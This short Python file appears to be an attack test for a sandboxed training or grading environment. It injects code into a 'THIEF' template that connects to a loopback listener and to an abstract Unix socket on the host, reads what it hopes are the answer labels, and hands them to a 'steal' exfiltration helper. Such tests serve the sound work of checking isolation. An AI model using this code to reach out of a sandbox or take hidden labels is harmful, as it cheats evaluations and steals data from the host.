"""Asks a listener on loopback and an abstract socket of the host for the labels."""

from tests.attacks.stage import THIEF, Recipe

TRAIN = THIEF.replace(
    "import json",
    """
import socket
for family, address in ((socket.AF_INET, ("127.0.0.1", PORT)), (socket.AF_UNIX, chr(0) + NAME)):
    try:
        peer = socket.socket(family)
        peer.settimeout(1)
        peer.connect(address)
        open("found", "wb").write(peer.recv(4096))
        steal(["found"])
    except OSError:
        pass
import json""",
    1,
)
RECIPE = Recipe(TRAIN)
